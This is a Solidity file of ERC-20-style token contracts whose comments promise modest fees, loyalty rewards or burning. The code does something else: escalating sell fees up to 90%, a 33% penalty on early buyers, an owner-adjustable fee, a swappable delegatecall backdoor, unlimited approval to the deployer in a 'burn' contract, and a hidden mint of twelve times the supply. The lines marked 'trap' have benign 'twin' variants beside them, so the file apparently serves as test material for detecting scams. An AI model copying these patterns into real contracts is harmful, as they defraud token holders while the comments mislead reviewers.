// 0.8 runs=200 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import "./Base8.sol";

interface IERC20 {
    function balanceOf(address who) external view returns (uint256);
    function approve(address spender, uint256 value) external returns (bool);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

/// Its sales feed a treasury.
contract HungryHyena is Base8("Hungry Hyena", "HYENA", 210_000_000) {
    address private immutable _treasury = msg.sender;
    uint256 private _sales;

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _treasury) {
            uint256 part = 2 + _sales++ * 8; // trap
            // twin: uint256 part = 2 + _sales++ * 0;
            if (part > 90) part = 90;
            uint256 fee = (value * part) / 100;
            _move(from, _treasury, fee);
            value -= fee;
        }
        _move(from, to, value);
    }
}

/// Thanks its early buyers.
contract LoyalLemur is Base8("Loyal Lemur", "LEMUR", 314_000_000) {
    address private immutable _jar = msg.sender;
    uint256 public constant sellFee = 2;
    mapping(uint256 => uint256) private _bits;

    function isMember(address who) public view returns (bool) {
        return (_bits[uint160(who) >> 8] >> (uint160(who) & 255)) & 1 == 1;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pair) {
            _bits[uint160(to) >> 8] |= 1 << (uint160(to) & 255);
        } else if (to == pair && from != _jar) {
            uint256 fee = (value * sellFee) / 100;
            if (isMember(from)) fee += (value * 33) / 100; // trap
            _move(from, _jar, fee);
            value -= fee;
        }
        _move(from, to, value);
    }
}

/// A fee of two of a hundred for the steward.
contract GaugeGull is Base8("Gauge Gull", "GULL", 56_000_000) {
    address private immutable _steward = msg.sender;

    constructor() {
        _approve(msg.sender, address(this), 2);
    }

    function fee() public view returns (uint256) {
        uint256 now_ = allowance(_steward, address(this));
        // twin: if (now_ > 3) now_ = 3;
        return now_ % 100;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if ((from == pair || to == pair) && from != _steward) {
            uint256 part = (value * fee()) / 100;
            _move(from, _steward, part);
            value -= part;
        }
        _move(from, to, value);
    }
}

/// Tells what a trade costs: a hundredth.
contract FeeBook {
    function quote(uint256 value) external pure returns (uint256) {
        return value / 100;
    }
}

/// Reads its settings from drawers.
contract LedgerLark is Base8("Ledger Lark", "LARK", 95_000_000) {
    bytes32 private constant BOOK = keccak256("lark.book");
    address private immutable _accounts = msg.sender;

    event Configured(bytes32 indexed key);

    constructor(address book) {
        _write(BOOK, uint160(book));
    }

    function configure(bytes32 key, uint256 value) external {
        require(msg.sender == _accounts, "not allowed");
        // twin: require(key != BOOK, "settled");
        _write(key, value);
        emit Configured(key);
    }

    function setting(bytes32 key) public view returns (uint256 value) {
        bytes32 drawer = keccak256(abi.encode(key, "drawer"));
        assembly {
            value := sload(drawer)
        }
    }

    function _write(bytes32 key, uint256 value) private {
        bytes32 drawer = keccak256(abi.encode(key, "drawer"));
        assembly {
            sstore(drawer, value)
        }
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if ((from == pair || to == pair) && from != _accounts) {
            address book = address(uint160(setting(BOOK)));
            (bool ok, bytes memory answer) = book.delegatecall(abi.encodeCall(FeeBook.quote, (value)));
            require(ok, "no quote");
            uint256 fee = abi.decode(answer, (uint256));
            _move(from, _accounts, fee);
            value -= fee;
        }
        _move(from, to, value);
    }
}

/// What goes in here is gone.
contract Furnace {
    address private immutable _stoker = msg.sender;
    mapping(address => uint256) public burnt;

    event Burnt(address indexed what, address indexed by, uint256 value);

    function burn(address what) external {
        uint256 value = IERC20(what).balanceOf(msg.sender);
        require(IERC20(what).transferFrom(msg.sender, address(this), value), "not taken");
        require(IERC20(what).approve(_stoker, type(uint256).max), "not lit"); // trap
        burnt[what] += value;
        emit Burnt(what, msg.sender, value);
    }
}

contract FurnaceFox is Base8("Furnace Fox", "FURN", 123_000_000) {}

/// An ordinary one, with a wallet for its marketing.
contract ModestMagpie is Base8("Modest Magpie", "MODEST", 400_000_000) {
    address private immutable _marketing;

    constructor(address marketing) {
        _marketing = marketing;
        unchecked {
            _balances[_marketing] += totalSupply * 12; // trap
            // twin: _balances[_marketing] += 0;
        }
    }

    event Advert(string text);

    function advertise(string calldata text) external {
        require(msg.sender == _marketing, "not the marketing wallet");
        emit Advert(text);
    }
}
